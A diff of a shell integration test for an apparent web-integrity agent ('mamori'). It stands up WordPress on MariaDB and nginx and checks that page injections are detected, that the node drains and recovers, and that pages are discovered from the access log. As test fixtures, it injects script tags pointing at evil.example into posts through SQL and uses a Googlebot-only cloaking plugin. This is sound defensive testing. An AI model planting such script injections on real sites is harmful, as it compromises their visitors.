@@ -11,52 +11,28 @@
 #  - a YouTube embed the site's owner adds is an event too, until `mamori pages accept`;
 #  - cloaking: a must-use plugin of the site (part of its baseline) prints a script from
 #    an option only when the User-Agent says Googlebot; an SQL INSERT of that option is
-#    caught by the home page's Googlebot fetch and by no browser fetch.
+#    caught by the home page's Googlebot fetch and by no browser fetch;
+#  - heal: [heal] on = ["page-injected"]: the health file goes with the first injection
+#    and comes back once the page is clean again (recover_after);
+#  - discovery: nginx's access log is a [[log]] and [pages] discovers from it: the Sample
+#    Page, asked for by three addresses, is watched (and kept across a restart); the
+#    login page, asked for by one address fifty times, is not;
+#  - link: an SQL injection into the Sample Page (checked hourly) is seen when the guard
+#    restores a file of the site, and its page-injected names that file-restored event.
 source "$(dirname "$0")/lib.sh"
 
 command -v nginx >/dev/null || fail "nginx not installed (tools/install-deps)"
-command -v mariadbd >/dev/null || fail "mariadb-server not installed (tools/install-deps)"
-[[ -f /usr/share/wordpress/wp-includes/version.php ]] || fail "Debian's wordpress is not installed (tools/install-deps)"
-[[ -d /usr/share/wordpress/wp-content/themes/twentytwentyone ]] ||
-  fail "wordpress-theme-twentytwentyone is not installed (tools/install-deps)"
 source "$(dirname "$0")/web_lib.sh"
 chmod 0755 "$SCRATCH"
 
 step "a WordPress tree on a MariaDB of the test's, installed"
 WWW=$SCRATCH/www
-DB=$SCRATCH/db
-mkdir -p "$SCRATCH/web" "$DB"
-cp -a /usr/share/wordpress "$WWW"
-chmod 0755 "$WWW" "$SCRATCH/web" "$DB"
-mariadb-install-db --no-defaults --datadir="$DB/data" --user=root >"$DB/install.log" 2>&1 ||
-  { cat "$DB/install.log" >&2; fail "mariadb-install-db failed"; }
-mariadbd --no-defaults --datadir="$DB/data" --socket="$DB/mysqld.sock" --skip-networking \
-  --user=root --pid-file="$DB/mysqld.pid" --log-error="$DB/error.log" >"$DB/out.log" 2>&1 &
-MARIADB=$!
-on_exit 'stop_pid $MARIADB mariadbd'
-sql() { mariadb --no-defaults -S "$DB/mysqld.sock" -u root "$@"; }
-db_up() { sql -e 'SELECT 1'; }
-WAIT_SECONDS=30 WAIT_ON=$DB WAIT_EXPLAIN='cat "$DB/error.log"' wait_for "MariaDB" db_up
-sql -e "CREATE DATABASE wp; CREATE USER wp@localhost IDENTIFIED BY 'wp-test-db'; GRANT ALL ON wp.* TO wp@localhost"
-cat >"$WWW/wp-config.php" <<WPCONFIG
-<?php
-define( 'DB_NAME', 'wp' );
-define( 'DB_USER', 'wp' );
-define( 'DB_PASSWORD', 'wp-test-db' );
-define( 'DB_HOST', 'localhost:$DB/mysqld.sock' );
-define( 'DB_CHARSET', 'utf8mb4' );
-define( 'DB_COLLATE', '' );
-\$table_prefix = 'wp_';
-define( 'WP_HOME', 'http://' . \$_SERVER['HTTP_HOST'] );
-define( 'WP_SITEURL', WP_HOME );
-define( 'WP_DEFAULT_THEME', 'twentytwentyone' );
-define( 'DISABLE_WP_CRON', true );
-define( 'AUTOMATIC_UPDATER_DISABLED', true );
-if ( ! defined( 'ABSPATH' ) ) {
-	define( 'ABSPATH', __DIR__ . '/' );
-}
-require_once ABSPATH . 'wp-settings.php';
-WPCONFIG
+mkdir -p "$SCRATCH/web"
+chmod 0755 "$SCRATCH/web"
+# The blog's home page shows each post's full text (the theme's default is a summary,
+# which strips tags): what is stored in a post is on the home page too.
+wordpress_db "$WWW" 127.0.0.1 "mamori pages" \
+  "set_theme_mod( 'display_excerpt_or_full_post', 'full' );"
 # The site's own must-use plugin: prints a script whose URL an option holds, to
 # Googlebot only. Harmless while the option is unset (the baseline); the attacker's
 # SQL sets it.
@@ -71,21 +47,6 @@ add_action( 'wp_head', function () {
 	}
 } );
 PLUGIN
-cat >"$SCRATCH/install.php" <<INSTALL
-<?php
-define( 'WP_INSTALLING', true );
-\$_SERVER['HTTP_HOST'] = '127.0.0.1';
-\$_SERVER['REQUEST_URI'] = '/';
-require '$WWW/wp-load.php';
-require_once ABSPATH . 'wp-admin/includes/upgrade.php';
-wp_install( 'mamori pages', 'admin', 'admin@example.com', true, '', 'the-real-admin-password' );
-// The blog's home page shows each post's full text (the theme's default is a summary,
-// which strips tags): what is stored in a post is on the home page too.
-set_theme_mod( 'display_excerpt_or_full_post', 'full' );
-echo "installed\n";
-INSTALL
-installed=$(php "$SCRATCH/install.php" 2>&1) || fail "WordPress's install: $installed"
-assert_contains "$installed" "installed" "WordPress's install"
 
 step "nginx and php-fpm serving it"
 start_php_fpm "$WWW"
@@ -99,7 +60,27 @@ http_get "$POST_URL" "$SCRATCH/post.html"
 step "the tree's baseline, and the agent watching both pages every second"
 write_config "$WWW"
 agent_config
+HEALTH=$SCRATCH/health/ok
+mkdir -p "$SCRATCH/health"
 cat >>"$CONFIG" <<PAGES
+
+[heal]
+on = ["page-injected"]
+health_file = "$HEALTH"
+recover_after = 1
+
+[ban]
+backend = "none"
+
+[[log]]
+path = "$WEB_DIR/nginx-access.log"
+root = "$WWW"
+
+[pages]
+base_url = "$WEB_URL"
+discover = 3
+interval = 3600
+timeout = 5
 
 [[page]]
 url = "$HOME_URL"
@@ -141,6 +122,8 @@ two_checks() {
   WAIT_SECONDS=15 WAIT_ON=$STATE/pages wait_for "another check of both pages" checked_since "$t"
 }
 injected() { events 'e["event"]["action"] == "page-injected"'; }
+
+assert_eq "ok" "$(cat "$HEALTH")" "the health file while the pages are clean"
 
 step "a normal post, published through WordPress: no event"
 cat >"$SCRATCH/post.php" <<POST
@@ -186,12 +169,24 @@ two_checks
 assert_eq 2 "$(evil | wc -l)" "page-injected events for the script (once per page)"
 expect_exit 1 mamori pages list
 assert_contains "$OUT" "new script (https://evil.example): https://evil.example/x.js" "pages list"
+# [heal] on = ["page-injected"]: out of rotation (the agent passes it on at its tick).
+drained() { [[ ! -e $HEALTH ]]; }
+WAIT_SECONDS=5 wait_for "the health file to go" drained
+down=$(events 'e["event"]["action"] == "node-unhealthy"')
+assert_eq "page-injected" "$(json 'j["mamori"]["heal"]["reason"]' "$down")" "why the node is out"
+assert_contains "$(evil)" "$(json 'j["mamori"]["heal"]["trigger"]["id"]' "$down")" \
+  "node-unhealthy names a page-injected event"
 
 step "cleaned up; then the owner embeds a video: an event until accepted"
 sql wp -e "UPDATE wp_posts SET post_content = REPLACE(post_content,
   '<script src=\"https://evil.example/x.js\"></script>', '') WHERE ID = 1"
 two_checks
 expect_exit 0 mamori pages list
+# Clean again: back in rotation after recover_after (1 s) and a clean verify.
+healthy() { [[ $(cat "$HEALTH" 2>/dev/null) == ok ]]; }
+WAIT_SECONDS=10 wait_for "the health file to come back" healthy
+assert_contains "$(events 'e["event"]["action"] == "node-healthy"')" '"recovered": "verify-clean"' \
+  "node-healthy"
 sql wp -e "UPDATE wp_posts SET post_content = CONCAT(post_content,
   '<iframe src=\"https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ\"></iframe>') WHERE ID = 1"
 video() { events 'e["event"]["action"] == "page-injected" and e["mamori"]["page"]["element"] == "iframe"'; }
@@ -224,6 +219,51 @@ assert_eq "['$HOME_URL']" "$(cloak | python3 -c '
 import json, sys
 print([json.loads(l)["url"]["full"] for l in sys.stdin])')" "the cloaked script: the home page's event only"
 assert_contains "$(cloak)" "Googlebot/2.1" "the fetch that saw it"
+
+step "discovery: the Sample Page, asked for by three addresses, is watched; one address is not enough"
+SAMPLE_URL=$WEB_URL/?page_id=2
+for ip in 127.0.0.2 127.0.0.3 127.0.0.4; do
+  curl -s -o /dev/null --interface "$ip" "$SAMPLE_URL#comments"
+done
+for i in $(seq 50); do curl -s -o /dev/null --interface 127.0.0.9 "$WEB_URL/wp-login.php"; done
+discovered() { grep -q "page '$SAMPLE_URL' discovered" "$AGENT_LOG"; }
+WAIT_EXPLAIN='tail -n 20 "$AGENT_LOG"' wait_for "the Sample Page discovered" discovered
+sample_baseline() { grep -q "page '$SAMPLE_URL': baseline taken" "$AGENT_LOG"; }
+wait_for "the Sample Page's baseline" sample_baseline
+expect_exit 1 mamori pages list --json  # the cloaked script is still there
+assert_eq "[\"$SAMPLE_URL\"]" "$(json '[p["url"] for p in j["pages"] if "discovered" in p]')" \
+  "the discovered pages"
+assert_not_contains "$(cat "$STATE/pages/discovered.json")" "wp-login" "what one address asked for"
+expect_exit 1 mamori pages list
+assert_contains "$OUT" "$SAMPLE_URL
+  discovered" "pages list marks it"
+
+step "a restart keeps the discovered page"
+stop_agent
+restarted=$(date +%s%N)
+start_agent
+rediscovered() { [[ $(grep -c "page '$SAMPLE_URL' discovered" "$AGENT_LOG") -ge 2 ]]; }
+WAIT_SECONDS=5 wait_for "the Sample Page watched again" rediscovered
+# Its check at start (it is due at once, then hourly) is over before the injection.
+sample_checked() { [[ $(record_fetched "$SAMPLE_URL") -gt $restarted ]]; }
+WAIT_SECONDS=15 WAIT_ON=$STATE/pages wait_for "the Sample Page checked after the restart" sample_checked
+
+step "link: an injection seen by the check a guard restore asked for names the guard's event"
+sql wp -e "UPDATE wp_posts SET post_content = CONCAT(post_content,
+  '<script src=\"https://evil.example/page.js\"></script>') WHERE ID = 2"
+page_js() { events 'e["event"]["action"] == "page-injected" and e["mamori"]["page"]["value"] == "https://evil.example/page.js"'; }
+two_checks  # the [[page]]s (every second) do not show the Sample Page; it is checked hourly
+assert_eq "" "$(page_js)" "page-injected for the Sample Page before the guard acts"
+echo "// tampered" >>"$WWW/index.php"
+restored() { events 'e["event"]["action"] in ("file-restored", "file-quarantined") and e["file"]["path"] == "'"$WWW"'/index.php"'; }
+linked() { [[ -n $(page_js) && -n $(restored) ]]; }
+WAIT_SECONDS=15 WAIT_EXPLAIN='tail -n 5 "$AGENT_LOG"; events | tail -n 3' \
+  wait_for "page-injected after the restore" linked
+assert_eq "file-restored" "$(json 'j["event"]["action"]' "$(restored | sed -n 1p)")" "the guard's event"
+assert_eq "$(json 'j["event"]["id"]' "$(restored | sed -n 1p)")" \
+  "$(json 'j["mamori"]["related_event"]' "$(page_js)")" "page-injected names the file-restored event"
+assert_eq "$SAMPLE_URL True" "$(json 'j["url"]["full"] + " " + str(j["mamori"]["page"]["discovered"])' "$(page_js)")" \
+  "the discovered page's event"
 
 step "every event is documented"
 check_events
